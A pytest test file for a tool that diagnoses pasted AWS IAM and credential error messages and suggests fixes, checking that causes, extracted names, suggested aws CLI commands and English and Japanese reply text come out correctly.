    customer = _advice(f"Policy {customer_arn} does not exist or is not attachable.", kb)
    assert any("customer managed policy of account 123456789012" in step for step in customer.steps)
    assert not any("a variable that was never set" in step for step in customer.steps)
    # No ARN at all: the lookup the first step promises searches by a part of the name.
    nameless = _advice("Policy does not exist or is not attachable.", kb)
    assert "list-policies --scope All" in _commands(nameless) and "grep -i -- 'NAME'" in _commands(nameless)
    assert "grep -i -- 'NAME'" not in _commands(customer)


def test_a_service_linked_roles_policy_refused_is_its_own_cause_with_what_terraform_names(
    kb: KnowledgeBase,
) -> None:
    cli = _advice(
        "An error occurred (PolicyNotAttachable) when calling the AttachRolePolicy operation:"
        " Cannot attach a Service Role Policy to a Customer Role.",
        kb,
    )
    assert cli.cause.id == "service-linked-role-policy-not-attachable"
    assert "list-roles --path-prefix /aws-service-role/" in _commands(cli)
    assert "get-policy-version" not in _commands(cli)  # no policy named
    policy = "arn:aws:iam::aws:policy/aws-service-role/AmazonECSServiceRolePolicy"
    for wrapper in (
        f"attaching policy {policy} to IAM Role ecs-svc:",
        f"attaching IAM Policy ({policy}) to IAM Role (ecs-svc):",
    ):
        terraform = _advice(
            f"Error: {wrapper} operation error IAM: AttachRolePolicy, PolicyNotAttachable:"
            " Cannot attach a Service Role Policy to a Customer Role.",
            kb,
        )
        assert terraform.cause.id == "service-linked-role-policy-not-attachable", wrapper
        assert terraform.entities["policy_arn"] == policy, wrapper
        assert terraform.entities["role_name"] == "ecs-svc", wrapper
        assert f"arn={policy};" in _commands(terraform)
    reserved = _advice(
        "Failed to add AmazonFISServiceRolePolicy to user. Cannot attach AWS reserved policy to an IAM user.",
        kb,
    )
    assert reserved.cause.id == "service-linked-role-policy-not-attachable"


def test_codebuilds_orphaned_policy_gets_the_clean_up_and_another_count_the_listing(
    kb: KnowledgeBase,
) -> None:
    message = "The policy is attached to {} but it must be attached to a single role"
    orphaned = _advice(message.format("0 entities"), kb)
    assert orphaned.cause.id == "codebuild-policy-not-single-role"
    commands = _commands(orphaned)
    assert "starts_with(PolicyName, 'CodeBuildBasePolicy-')" in commands
    assert "aws iam delete-policy --policy-arn" in commands and "detach-role-policy" not in commands
    # The delete stops before removing anything while the policy is still attached.
    delete = next(c.run for c in orphaned.commands if "delete-policy-version" in c.run)
    assert delete.index("Policy.AttachmentCount") < delete.index("delete-policy-version")
    assert any("orphaned" in step for step in orphaned.steps)
    for count in ("2 entities", "1 entity"):
        counted = _advice(message.format(count), kb)
        assert "detach-role-policy" in _commands(counted) and "delete-policy" not in _commands(counted)
        assert any("not attached to a single role" in step for step in counted.steps)
        assert not any("orphaned" in step for step in counted.steps)


def _run_with_aws(command: str, tmp_path: Path, answers: dict[str, tuple[int, str]]) -> list[str]:
    """Run a reply's shell command with an `aws` that answers each subcommand as told (exit code,
    output; others succeed silently), and the calls it received, in order."""
    calls = tmp_path / "calls"
    cases = "".join(f'  {name}) printf "{out}"; exit {code};;\n' for name, (code, out) in answers.items())
    fake = tmp_path / "aws"
    fake.write_text(f'#!/bin/sh\necho "$*" >> "{calls}"\ncase "$2" in\n{cases}esac\n')
    fake.chmod(0o755)
    subprocess.run(
        ["bash", "-c", command],
        env={**os.environ, "PATH": f"{tmp_path}:{os.environ['PATH']}"},
        cwd=tmp_path,
        capture_output=True,
        check=False,
    )
    return calls.read_text().splitlines() if calls.exists() else []


def test_the_orphaned_policys_delete_stops_where_a_step_fails(kb: KnowledgeBase, tmp_path: Path) -> None:
    orphaned = _advice("The policy is attached to 0 entities but it must be attached to a single role", kb)
    delete = next(c.run for c in orphaned.commands if "delete-policy-version" in c.run)
    delete = delete.replace(
        "POLICY_ARN", "arn:aws:iam::111122223333:policy/CodeBuildBasePolicy-app-eu-west-1"
    )
    # Unattached, two old versions: both go, then the policy.
    calls = _run_with_aws(delete, tmp_path, {"get-policy": (0, "0"), "list-policy-versions": (0, "v1\\tv2")})
    assert [c.split()[1] for c in calls] == [
        "get-policy",
        "list-policy-versions",
        "delete-policy-version",
        "delete-policy-version",
        "delete-policy",
    ]
    # The versions cannot be listed: nothing is deleted.
    (tmp_path / "calls").unlink()
    calls = _run_with_aws(delete, tmp_path, {"get-policy": (0, "0"), "list-policy-versions": (254, "")})
    assert not any(c.startswith("iam delete-policy") for c in calls)
    # Still attached: nothing is listed or deleted.
    (tmp_path / "calls").unlink()
    calls = _run_with_aws(delete, tmp_path, {"get-policy": (0, "1")})
    assert [c.split()[1] for c in calls] == ["get-policy"]


def test_an_instance_profile_ec2_cannot_use_is_looked_up_by_its_name(kb: KnowledgeBase) -> None:
    by_name = _advice(
        "An error occurred (InvalidParameterValue) when calling the RunInstances operation: Value (app-ec2-role)"
        " for parameter iamInstanceProfile.name is invalid. Invalid IAM Instance Profile name",
        kb,
    )
    assert by_name.cause.id == "instance-profile-invalid"
    commands = _commands(by_name)
    assert "aws iam get-instance-profile --instance-profile-name app-ec2-role" in commands
    assert "aws iam list-instance-profiles-for-role --role-name app-ec2-role" in commands
    assert 'r=app-ec2-role; aws iam create-instance-profile --instance-profile-name "$r"' in commands
    assert any("not the role's" in step for step in by_name.steps)
    # An ARN gives the profile's name to the lookups, and its account.
    by_arn = _advice(
        "Value (arn:aws:iam::111122223333:instance-profile/teams/web) for parameter iamInstanceProfile.arn is"
        " invalid. Invalid IAM Instance Profile ARN",
        kb,
    )
    assert "--instance-profile-name web " in _commands(by_arn)
    empty = _advice(
        'IAM Instance Profile "arn:aws:iam::111122223333:instance-profile/batch" has no associated IAM Roles',
        kb,
    )
    assert "add-role-to-instance-profile --instance-profile-name batch --role-name ROLE_NAME" in _commands(
        empty
    )
    assert "create-instance-profile" not in _commands(empty)
    assert "list-instance-profiles-for-role" not in _commands(empty)
    assert any("holds no role" in step for step in empty.steps)
    assert not any("Check the ARN's account" in step for step in empty.steps)
    # A role's ARN where the profile's belongs is called so.
    role = _advice(
        "Value (arn:aws:iam::111122223333:role/web) for parameter iamInstanceProfile.arn is invalid."
        " Invalid IAM Instance Profile ARN",
        kb,
    )
    assert role.steps[0].startswith("arn:aws:iam::111122223333:role/web is a role's ARN")
    assert not any("is a role's ARN" in step for step in by_arn.steps)


def test_eks_gets_the_policies_or_the_trust_fix_the_message_asks_for(kb: KnowledgeBase) -> None:
    policies = _advice(
        "An error occurred (InvalidParameterException) when calling the CreateNodegroup operation: The provided"
        " role doesn't have the Amazon EKS Managed Policies associated with it. Please ensure the following"
        " policies [arn:aws:iam::aws:policy/AmazonEKSWorkerNodePolicy,"
        " arn:aws:iam::aws:policy/AmazonEC2ContainerRegistryReadOnly] are attached",
        kb,
    )
    assert policies.cause.id == "eks-node-role-invalid"
    assert "attach-role-policy" in _commands(policies)
    assert "update-assume-role-policy" not in _commands(policies) and policies.policy is None
    assert any("October 3, 2023" in step for step in policies.steps)
    trust = _advice(
        "An error occurred (InvalidParameterException) when calling the CreateNodegroup operation: Following"
        " required service principals [ec2.amazonaws.com] were not found in the trust relationships of"
        " nodeRole arn:aws:iam::111122223333:role/eks-cluster-role",
        kb,
    )
    commands = _commands(trust)
    assert "attach-role-policy" not in commands
    # The cluster's role is looked up before the trust is edited, and the edit says when not to.
    assert commands.index("describe-cluster") < commands.index("update-assume-role-policy")
    assert "r=eks-cluster-role; p=ec2.amazonaws.com;" in commands
    assert trust.policy is not None and '"ec2.amazonaws.com"' in trust.policy
    cluster_step = next(i for i, step in enumerate(trust.steps) if "can't serve as the node role" in step)
    trust_step = next(i for i, step in enumerate(trust.steps) if step.startswith("Read the trust policy"))
    assert cluster_step < trust_step


def test_lambdas_execution_role_gets_the_policy_for_the_feature_the_message_names(kb: KnowledgeBase) -> None:
    message = (
        "An error occurred (InvalidParameterValueException) when calling the {} operation: The provided execution"
        " role does not have permissions to call {} on {}"
    )
    for operation, call, service, policy in (
        ("CreateFunction", "CreateNetworkInterface", "EC2", "AWSLambdaVPCAccessExecutionRole"),
        ("CreateEventSourceMapping", "ReceiveMessage", "SQS", "AWSLambdaSQSQueueExecutionRole"),
        ("CreateEventSourceMapping", "GetRecords", "Kinesis", "AWSLambdaKinesisExecutionRole"),
        ("CreateEventSourceMapping", "DescribeStream", "DynamoDB", "AWSLambdaDynamoDBExecutionRole"),
    ):
        advice = _advice(message.format(operation, call, service), kb)
        assert advice.cause.id == "lambda-execution-role-permission"
        commands = _commands(advice)
        assert f"policy/service-role/{policy}" in commands
        assert commands.count("attach-role-policy") == 1, service
        assert sum(policy in step for step in advice.steps) == 1, service
    other = _advice(message.format("CreateEventSourceMapping", "DescribeCluster", "Kafka"), kb)
    assert "AWSLambdaMSKExecutionRole" in _commands(other)
    unknown = _advice(message.format("CreateFunction", "PutObject", "S3"), kb)
    assert "attach-role-policy" not in _commands(unknown)
    assert any("sqs:ReceiveMessage" in step and "service's prefix" in step for step in unknown.steps)
    # A dead-letter queue is sent to, not read: no event source mapping's policy for it.
    dead_letter = _advice(message.format("CreateFunction", "SendMessage", "SQS"), kb)
    assert any("sqs:SendMessage" in step for step in dead_letter.steps)
    assert "AWSLambdaSQSQueueExecutionRole" not in _commands(dead_letter) + " ".join(dead_letter.steps)
    tracing = _advice(
        message.format("CreateFunction", "PutTraceSegments", "XRAY").replace("provided", "function"), kb
    )
    assert "policy/AWSXRayDaemonWriteAccess" in _commands(tracing)
    # A stream's own wording: the stream's ARN tells which policy.
    stream = _advice(
        "Cannot access stream arn:aws:dynamodb:us-east-1:111122223333:table/orders/stream/2024-01-01T00:00:00.000."
        " Please ensure the role can perform the GetRecords, GetShardIterator, DescribeStream, and ListStreams"
        " Actions on your stream in IAM.",
        kb,
    )
    assert stream.cause.id == "lambda-execution-role-permission"
    assert "AWSLambdaDynamoDBExecutionRole" in _commands(stream)
    # Only the network interfaces' calls are the VPC's; another EC2 call gets the generic step.
    ec2 = _advice(message.format("CreateFunction", "DescribeSecurityGroups", "EC2"), kb)
    assert "AWSLambdaVPCAccessExecutionRole" not in _commands(ec2)
    lower = diagnose(message.format("CreateFunction", "CreateNetworkInterface", "EC2").lower())
    assert lower.primary is not None and lower.primary.cause.id == "lambda-execution-role-permission"
    # A placeholder for the stream, the console's bold action names, and a Kafka source's secret.
    for text in (
        "Cannot access stream KINESIS STREAM ARN. Please ensure the role can perform the GetRecords,"
        " GetShardIterator, DescribeStream, and ListStreams Actions on your stream in IAM.",
        "Cannot access stream arn:aws:kinesis:eu-west-1:111122223333:stream/test. Please ensure the role can"
        " perform the **GetRecords**, **GetShardIterator**, **DescribeStream**, and **ListStreams** Actions",
    ):
        assert _advice(text, kb).cause.id == "lambda-execution-role-permission", text
    secret = _advice(
        "Cannot access secret manager value arn:aws:secretsmanager:eu-central-1:111122223333:secret:AmazonMSK_x."
        " Please ensure the role can perform the 'secretsmanager:GetSecretValue' action on your broker in IAM.",
        kb,
    )
    assert any("secretsmanager:GetSecretValue" in step and "kms:Decrypt" in step for step in secret.steps)


def test_what_a_message_does_not_ask_for_is_not_offered(kb: KnowledgeBase) -> None:
    # Config found the ARN malformed: it never tried the role, so no trust edit or statement.
    config = _advice("InvalidRoleException: The role arn passed is not valid", kb)
    assert "update-assume-role-policy" not in _commands(config) and config.policy is None
    # EKS's CNI policy only where the message names it.
    names = (
        "Error: creating EKS Node Group (prod:workers): InvalidParameterException: The provided role doesn't have the"
        " Amazon EKS Managed Policies associated with it. Please ensure the following policies"
        " [arn:aws:iam::aws:policy/AmazonEKSWorkerNodePolicy, arn:aws:iam::aws:policy/AmazonEC2ContainerRegistryReadOnly{}]"
        " are attached"
    )
    two = _advice(names.format(""), kb)
    assert "AmazonEKS_CNI_Policy" not in _commands(two)
    three = _advice(names.format(", arn:aws:iam::aws:policy/AmazonEKS_CNI_Policy"), kb)
    assert "policy/AmazonEKS_CNI_Policy" in _commands(three)
    # A role's ARN where the instance profile's belongs: one step says so, the generic one does not repeat it.
    role = _advice(
        "Value (arn:aws:iam::111122223333:role/web) for parameter iamInstanceProfile.arn is invalid."
        " Invalid IAM Instance Profile ARN",
        kb,
    )
    assert not any(step.startswith("Check what") for step in role.steps)
    # A user's ARN given to a web identity federation as the role to assume is called what it is.
    oidc = _advice(
        "role-to-assume: arn:aws:iam::123456789012:user/github-deploy\n"
        "Error: Could not assume role with OIDC: Not authorized to perform sts:AssumeRoleWithWebIdentity",
        kb,
    )
    assert oidc.steps[0].startswith("arn:aws:iam::123456789012:user/github-deploy is the ARN of a user")
    assert len(oidc.steps) == 1  # the federation's trust steps are for a role, which this is not
    # A typo in the resource type is no other resource: the role's lookups stay.
    typo = _advice(
        "User: arn:aws:iam::111122223333:user/ci is not authorized to perform: sts:AssumeRole on resource:"
        " arn:aws:iam::111122223333:roles/deployer",
        kb,
    )
    assert not any("not of a role" in step for step in typo.steps)


def test_an_expired_web_identity_token_or_saml_assertion_is_told_apart_from_expired_credentials(
    kb: KnowledgeBase,
) -> None:
    too_old = _advice(
        "<Error><Type>Sender</Type><Code>ExpiredTokenException</Code><Message>Token too old: 441398</Message></Error>",
        kb,
    )
    assert too_old.cause.id == "expired-token"
    assert any(step.startswith("Here what expired is the web identity token") for step in too_old.steps)
    saml = _advice(
        "An error occurred (ExpiredTokenException) when calling the AssumeRoleWithSAML operation: "
        "Token must be redeemed within 5 minutes of issuance",
        kb,
    )
    assert saml.cause.id == "expired-token" and saml.entities["operation"] == "AssumeRoleWithSAML"
    assert any(step.startswith("Here what expired is the SAML assertion") for step in saml.steps)
    assert not any("web identity token" in step for step in saml.steps)
    # The JavaScript SDK's wrapper around an expired token: the expired token is the diagnosis.
    wrapped = _advice(
        "Error: Could not load credentials from ChainableTemporaryCredentials2: Missing credentials in config, "
        "if using AWS_CONFIG_FILE, set AWS_SDK_LOAD_CONFIG=1: Could not load credentials from "
        "ChainableTemporaryCredentials2: The security token included in the request is expired",
        kb,
    )
    assert wrapped.cause.id == "expired-token"


@pytest.fixture(scope="module")
def replies(kb: KnowledgeBase) -> list[tuple[str, int, str, Advice]]:
    """Every diagnosis of every example and real corpus paste, in both languages."""
    pastes = [(c.id, e.text, e.asked or c.asked_only) for c in kb.causes for e in c.examples.match]
    lines = (CORPUS / "iam.jsonl").read_text(encoding="utf-8").splitlines()
    pastes += [(item["id"], item["text"], bool(item.get("asked"))) for item in map(json.loads, lines)]
    replies = []
    for number, (name, text, asked) in enumerate(pastes):
        for lang in ("en", "ja"):
            triage = diagnose(text, asked=asked, lang=lang)  # type: ignore[arg-type]
            for diagnosis in triage.diagnoses:
                replies.append(
                    (name, number, lang, advise(diagnosis, triage.lang, kb.shared.passed_to_service))
                )
    return replies


def test_no_reply_points_to_a_statement_it_does_not_show(replies: list[tuple[str, int, str, Advice]]) -> None:
    pointers = ("statement below", "template below", "下のステートメント", "下のテンプレート")
    dangling = [
        (cause, number, lang)
        for cause, number, lang, advice in replies
        if advice.policy is None and any(p in step for step in advice.steps for p in pointers)
    ]
    assert dangling == []


# Words in a step that point to the commands shown with it, and how many commands each needs.
_COMMAND_POINTERS = (
    (re.compile(r"\bcommands? (?:below|above)"), 1),
    (re.compile(r"\bfirst command"), 1),
    (re.compile(r"\bsecond command"), 2),
    (re.compile(r"\bthird command"), 3),
    (re.compile(r"\bfourth command"), 4),
    (re.compile(r"\blast command"), 1),
    (re.compile(r"下の[^。]{0,6}コマンド|最初のコマンド|最後のコマンド"), 1),
    (re.compile(r"2 ?つ目のコマンド"), 2),
    (re.compile(r"3 ?つ目のコマンド"), 3),
    (re.compile(r"4 ?つ目のコマンド"), 4),
)


def test_no_reply_points_to_a_command_it_does_not_show(replies: list[tuple[str, int, str, Advice]]) -> None:
    dangling = [
        (cause, number, lang, pointer.search(step)[0])  # type: ignore[index]
        for cause, number, lang, advice in replies
        for step in advice.steps
        for pointer, needed in _COMMAND_POINTERS
        if pointer.search(step) and len(advice.commands) < needed
    ]
    assert dangling == []


def test_a_taken_instance_profile_name_gets_the_profile_looked_up_not_a_role(kb: KnowledgeBase) -> None:
    text = (
        "Error: creating IAM instance profile AWS_GOAT_ec2_profile: EntityAlreadyExists: "
        "Instance Profile AWS_GOAT_ec2_profile already exists.\n\tstatus code: 409"
    )
    for lang in ("en", "ja"):
        advice = _advice(text, kb, lang)
        assert advice.entities["instance_profile"] == "AWS_GOAT_ec2_profile"
        assert "aws iam get-instance-profile --instance-profile-name AWS_GOAT_ec2_profile " in _commands(
            advice
        )
        assert "--role-name" not in _commands(advice)
        assert "terraform import ADDRESS AWS_GOAT_ec2_profile on aws_iam_instance_profile" in " ".join(
            advice.steps
        ) or "terraform import ADDRESS AWS_GOAT_ec2_profile か" in " ".join(advice.steps)


def test_a_delete_conflict_naming_no_entity_says_what_to_list_by_hand(kb: KnowledgeBase) -> None:
    advice = _advice(
        "An error occurred (DeleteConflict) when calling the DeleteUser operation: "
        "Cannot delete entity, must delete login profile first.",
        kb,
    )
    assert advice.commands == []
    assert "list-access-keys" in advice.steps[0] and "--user-name USER" in advice.steps[0]


def test_a_pointer_names_the_place_of_its_command_among_those_shown(kb: KnowledgeBase) -> None:
    # AWS Config's refusal of the role's ARN: no trust policy to read, so the existence check comes first.
    text = (
        "An error occurred (InvalidRoleException) when calling the PutConfigurationRecorder operation: "
        "The role arn passed is not valid"
    )
    unnamed = _advice(text, kb)
    assert unnamed.commands[0].label.startswith("Does the role")
    assert any("(first and second commands)" in step for step in unnamed.steps)
    ja = _advice(text, kb, "ja")
    assert any("(最初と 2 つ目のコマンド)" in step for step in ja.steps)


def test_a_step_pointing_to_a_command_not_shown_gives_way_to_its_variant(kb: KnowledgeBase) -> None:
    # An SCP whose id is masked: no command reads it, and the step says how to, by hand.
    advice = _advice(
        "An error occurred (AccessDeniedException) when calling the ListBuckets operation: User: "
        "arn:aws:iam::123456789012:user/bob is not authorized to perform: s3:ListAllMyBuckets with an "
        "explicit deny in a service control policy: arn:aws:organizations::111111111111:policy/o-***/"
        "service_control_policy/p-***",
        kb,
    )
    assert advice.cause.id == "scp-denied"
    assert not any(c.label.startswith("Read the SCP") for c in advice.commands)
    assert any("aws organizations describe-policy --policy-id POLICY_ID" in step for step in advice.steps)
    assert not any("command below, from the management" in step for step in advice.steps)


def test_the_profile_the_failing_command_used_is_the_one_to_sign_in_again(kb: KnowledgeBase) -> None:
    expired = _advice(
        "$ aws s3 ls --profile stg-admin\nError when retrieving token from sso: Token has expired and refresh failed",
        kb,
    )
    assert expired.entities["profile"] == "stg-admin"
    assert "aws sso login --profile stg-admin" in _commands(expired)
    assert "aws sso login" not in [c.run for c in expired.commands]  # the profile's, not the default
    no_access = _advice(
        "$ aws ec2 describe-instances --profile nomis-test\n"
        "An error occurred (ForbiddenException) when calling the GetRoleCredentials operation: No access",
        kb,
    )
    assert "P=nomis-test;" in _commands(no_access) and "P=PROFILE;" not in _commands(no_access)
    # A profile another command used lines before is not this error's.
    earlier = _advice(
        "$ aws sso login --profile old\nSuccessfully logged into Start URL\n$ terraform plan\n"
        "Error: Error when retrieving token from sso: Token has expired and refresh failed",
        kb,
    )
    assert "profile" not in earlier.entities
    assert "aws sso login" in _commands(earlier)
    missing = _advice("The config profile (docgenerator) could not be found", kb, "ja")
    assert missing.entities["profile"] == "docgenerator"
    assert any("aws configure sso --profile docgenerator" in step for step in missing.steps)


def test_invalid_keys_are_looked_at_in_the_profile_the_failing_command_used(kb: KnowledgeBase) -> None:
    pasted = (
        "$ aws s3 ls --profile legacy-admin\n\nAn error occurred (InvalidClientTokenId) when calling the "
        "ListBuckets operation: The security token included in the request is invalid."
    )
    advice = _advice(pasted, kb)
    assert advice.entities["profile"] == "legacy-admin"
    runs = [c.run for c in advice.commands]
    assert "aws configure list --profile legacy-admin" in runs and "aws configure list" not in runs
    assert "aws sts get-caller-identity --profile legacy-admin" in runs
    assert any(step.startswith("The failing command used the profile legacy-admin") for step in advice.steps)
    # A masked profile is named in the steps as pasted, but never run.
    masked = _advice(pasted.replace("legacy-admin", "xxxx"), kb)
    assert "aws configure list" in [c.run for c in masked.commands]
    assert "xxxx" not in _commands(masked)


def test_terraform_and_the_go_sdk_name_the_missing_profile(kb: KnowledgeBase) -> None:
    advice = _advice(
        "│ Error: configuring Terraform AWS Provider: failed to get shared config profile, jack.roper\n│\n"
        '│   with provider["registry.terraform.io/hashicorp/aws"],',
        kb,
    )
    assert advice.cause.id == "credentials-not-found" and advice.entities["profile"] == "jack.roper"
    assert any("aws configure sso --profile jack.roper" in step for step in advice.steps)
    assert any('provider block (profile = "jack.roper")' in step for step in advice.steps)
    # The CLI's own wording names the profile, but Terraform's step is not for it.
    cli = _advice("The config profile (dev) could not be found", kb)
    assert not any("provider block" in step for step in cli.steps)
    # No name, a flag in its place or a name cut short: the error, without a profile.
    for pasted in ("profile, --debug", "profile, " + "a" * 70, "profile"):
        advice = _advice(f"Error: failed to get shared config {pasted}", kb)
        assert advice.cause.id == "credentials-not-found" and "profile" not in advice.entities, pasted
    flag = _advice(
        "$ aws s3 ls --profile --region eu-west-1\nAn error occurred (InvalidClientTokenId) when calling the "
        "ListBuckets operation: The security token included in the request is invalid.",
        kb,
    )
    assert "profile" not in flag.entities and "--profile --region" not in _commands(flag)


def test_a_masked_policy_name_is_looked_up_by_hand(kb: KnowledgeBase) -> None:
    advice = _advice(
        "An error occurred (NoSuchEntity) when calling the AttachRolePolicy operation: "
        "Policy arn:aws:iam::aws:policy/xxxx does not exist or is not attachable.",
        kb,
    )
    assert advice.steps[0].startswith("Look the policy up by its real name")
    assert "xxxx" not in _commands(advice)


def test_held_out_shapes_are_read(kb: KnowledgeBase) -> None:
    # The CDK's warning names the bootstrap role it could not assume.
    cdk = _advice(
        "current credentials could not be used to assume "
        "'arn:aws:iam::111122223333:role/cdk-hnb659fds-deploy-role-111122223333-eu-west-1', "
        "but are for the right account. Proceeding anyway.",
        kb,
    )
    assert cdk.cause.id == "assume-role-denied"
    assert cdk.entities["role_arn"].endswith("role/cdk-hnb659fds-deploy-role-111122223333-eu-west-1")
    assert cdk.steps[0].startswith("The CDK could not assume its bootstrap role")
    masked_cdk = _advice(
        "current credentials could not be used to assume "
        "'arn:aws:iam::XXXXXXXXXXXX:role/cdk-hnb659fds-deploy-role-XXXXXXXXXXXX-us-east-1', but are for "
        "the right account.",
        kb,
    )
    assert "XXXXXXXXXXXX" not in _commands(masked_cdk)  # a masked name is never run
    # An empty mask for the account, a caller masked from its account on, a `null` action.
    braces = _advice(
        "bob is not authorized to perform: sts:AssumeRole on resource: arn:aws:iam::{}:role/x", kb
    )
    assert braces.entities["role_arn"] == "arn:aws:iam::{}:role/x"
    template = diagnose(
        'role_arn = "arn:aws:iam::{}:role/{}".format(account, name)\nAn error occurred (AccessDenied) when '
        "calling the AssumeRole operation: Not authorized to perform sts:AssumeRole"
    )
    assert template.primary is not None and "role_arn" not in template.primary.entities  # no role
    assert not diagnose(
        "I am not authorized to perform null checks in this module, says the linter."
    ).diagnoses
    masked = _advice("User: arn:aws:iam::[ID] is not authorized to perform: sts:GetFederationToken", kb)
    assert masked.entities["caller_arn"] == "arn:aws:iam::[ID]"
    null = _advice(
        "An error occurred (AccessDeniedException) when calling the CreateComponentVersion operation: "
        "User: arn:aws:iam::456012345600:user/Administrator is not authorized to perform: null",
        kb,
    )
    assert null.entities["caller_arn"] == "arn:aws:iam::456012345600:user/Administrator"
    assert "action" not in null.entities
    # The Java SDK v2's S3 denial, as CloudFormation quotes it.
    s3 = _advice(
        'Resource handler returned message: "Access Denied (Service: S3, Status Code: 403, Request ID: X', kb
    )
    assert s3.cause.id == "access-denied-unspecified"
    # IAM's partition refusal with its code after it; Terraform's wrapper with a capital P.
    partition = _advice(
        'Partition "aws" is not valid for resource "arn:aws:ec2:*:*:volume/*". (Service: AmazonIdentityManagement; '
        "Status Code: 400; Error Code: MalformedPolicyDocument; Request ID: 1)",
        kb,
    )
    assert partition.cause.id == "malformed-policy-document"
    assert any("another partition" in step for step in partition.steps)
    wrapped = _advice(
        "Error: updating IAM Policy (arn:aws:iam::111122223333:policy/app): operation error IAM: "
        "CreatePolicyVersion, https response error StatusCode: 400, RequestID: 1, MalformedPolicyDocument: "
        "Policy statement must contain resources.",
        kb,
    )
    assert wrapped.entities["policy_arn"] == "arn:aws:iam::111122223333:policy/app"
    # A role's inline policy, or a policy's version, is not a policy of that name.
    for subject in (
        "IAM Role Policy (myrole:mypolicy)",
        "IAM Policy Version (arn:aws:iam::111122223333:policy/app)",
    ):
        other = _advice(f"creating {subject}: MalformedPolicyDocument: Syntax errors in policy.", kb)
        assert other.entities.get("policy_name") not in ("myrole", "Version"), subject


def test_the_role_whose_trust_policy_holds_an_invalid_principal_is_told_from_it(kb: KnowledgeBase) -> None:
    both = _advice(
        "error updating IAM Role (GitActions_Workflow_role) assume role policy: MalformedPolicyDocument: "
        'Invalid principal in policy: "AWS":"arn:aws:iam::123456789012:role/Orchestration_Role"',
        kb,
    )
    assert both.entities["role_name"] == "GitActions_Workflow_role"
    assert both.title.endswith(
        "cannot resolve arn:aws:iam::123456789012:role/Orchestration_Role named in the policy"
    )
    assert "--role-name Orchestration_Role" in _commands(both)  # the principal is looked up
    assert "GitActions_Workflow_role" not in _commands(both)
    facts = dict((f.label, f.value) for f in render_facts(both, kb.messages))
    assert facts == {
        "Principal": "arn:aws:iam::123456789012:role/Orchestration_Role",
        "Trust policy of": "GitActions_Workflow_role",
    }
    # No principal named: the role being written is named as such, and looked up as nothing else.
    alone = _advice(
        "Error: Error creating IAM Role admin: MalformedPolicyDocument: Invalid principal in policy: "
        "com.amazon.balsa.error.InvalidPolicyException: The passed in policy has a statement with no principals!",
        kb,
    )
    assert alone.entities["role_name"] == "admin"
    assert "cannot resolve a principal named" in alone.title
    assert "--role-name admin" not in _commands(alone)


def test_an_endpoint_elsewhere_makes_s3_s_words_not_aws_s(kb: KnowledgeBase) -> None:
    error = (
        "botocore.exceptions.ClientError: An error occurred (AccessDenied) when calling the PutObject "
        "operation: There were headers present in the request which were not signed"
    )
    assert diagnose(error).diagnoses
    elsewhere = [
        'S3_ENDPOINT_URL = "https://s3.xyz.com/"',
        "--endpoint-url http://localhost:9000",
        'AWS_S3_ENDPOINT_URL = "https://minio.example.org"',
        'S3Client.builder().endpointOverride(URI.create("https://objects.example.org"))',
        'endpoints {\n    s3 = "https://minio.local:9000"\n  }',
        "aws s3 ls --endpoint-url http://[::1]:4566",
    ]
    for setting in elsewhere:
        assert not diagnose(f"{setting}\n{error}").diagnoses, setting
    # AWS's own hosts, other endpoints (the instance metadata's, a collector's), a comment, a mention.
    aws = [
        "--endpoint-url https://s3.eu-west-1.amazonaws.com",
        'endpoint_url="https://s3.amazonaws.com.cn"',
        "--endpoint-url https://abc.lambda-url.us-east-1.on.aws",
        "botocore.utils - DEBUG - IMDS ENDPOINT: http://169.254.169.254/",
        "OTEL_EXPORTER_OTLP_ENDPOINT=http://otel-collector:4318",
        "# endpoint_url='http://localhost:4566'",
        "With LocalStack (endpoint http://localhost:4566) it works, but against AWS:",
    ]
    for setting in aws:
        assert diagnose(f"{setting}\n{error}").diagnoses, setting


def test_a_short_slack_reply_says_where_the_commands_its_steps_name_are(kb: KnowledgeBase) -> None:
    triage = diagnose(kb.cause("codebuild-policy-not-single-role").examples.match[0].text)
    text = json.dumps(blocks.render(triage, kb).blocks, ensure_ascii=False)
    assert "The fifth command deletes it" in text  # of five, two shown
    assert "More commands under Details: 3" in text
    detailed = json.dumps(blocks.render(triage, kb, detailed=True).blocks, ensure_ascii=False)
    assert "More commands under Details" not in detailed


def test_no_reply_shows_a_pointer_unfilled(replies: list[tuple[str, int, str, Advice]]) -> None:
    raw = [
        (cause, number, lang)
        for cause, number, lang, advice in replies
        if any("{#" in text for text in [*advice.steps, *(c.label for c in advice.commands)])
    ]
    assert raw == []


def test_a_label_names_what_its_command_holds_not_a_masked_name(kb: KnowledgeBase) -> None:
    advice = _advice(
        "ValidationError: Role arn:aws:iam::***:role/cdk-hnb659fds-cfn-exec-role-***-us-east-1 is invalid "
        "or cannot be assumed",
        kb,
    )
    assert "cdk-hnb659fds-cfn-exec-role-***" in " ".join(advice.steps)  # the steps say what was pasted
    trust = next(c for c in advice.commands if "AssumeRolePolicyDocument" in c.run)
    assert "ROLE_NAME" in trust.run
    assert "***" not in trust.label and "replace ROLE_NAME" in trust.label


def test_a_missing_oidc_provider_is_created_for_the_issuer_the_message_names(kb: KnowledgeBase) -> None:
    issuer = "oidc.eks.eu-west-1.amazonaws.com/id/4F2A0C8E9B7D6E5F1A2B3C4D5E6F7A8B"
    advice = _advice(
        "An error occurred (InvalidIdentityToken) when calling the AssumeRoleWithWebIdentity operation: "
        f"No OpenIDConnect provider found in your account for https://{issuer}",
        kb,
    )
    assert advice.entities["issuer"] == issuer
    assert (
        f"aws iam create-open-id-connect-provider --url https://{issuer} --client-id-list sts.amazonaws.com"
        in _commands(advice)
    )
    assert advice.steps[0].startswith(f"This account has no IAM OIDC provider for {issuer}")
    assert advice.policy is not None and f'"{issuer}:aud": "sts.amazonaws.com"' in advice.policy
    assert f"oidc-provider/{issuer}" in advice.policy
    # A masked issuer is named as pasted, and not run: the step says the call by hand.
    masked = _advice(
        "No OpenIDConnect provider found in your account for https://oidc.eks.us-east-1.amazonaws.com/id/***",
        kb,
    )
    assert "create-open-id-connect-provider" not in _commands(masked)
    assert "create-open-id-connect-provider --url https://ISSUER" in masked.steps[0]


def test_an_invalid_principal_without_a_role_to_look_up_says_the_lookup_by_hand(kb: KnowledgeBase) -> None:
    advice = _advice(
        "An error occurred (MalformedPolicyDocument) when calling the PutBucketPolicy operation: "
        'Invalid principal in policy: "AWS":"arn:aws:iam::123456789012:user/bob"',
        kb,
    )
    check = next(step for step in advice.steps if step.startswith("Check that"))
    assert "aws iam get-role --role-name NAME, or get-user --user-name NAME" in check
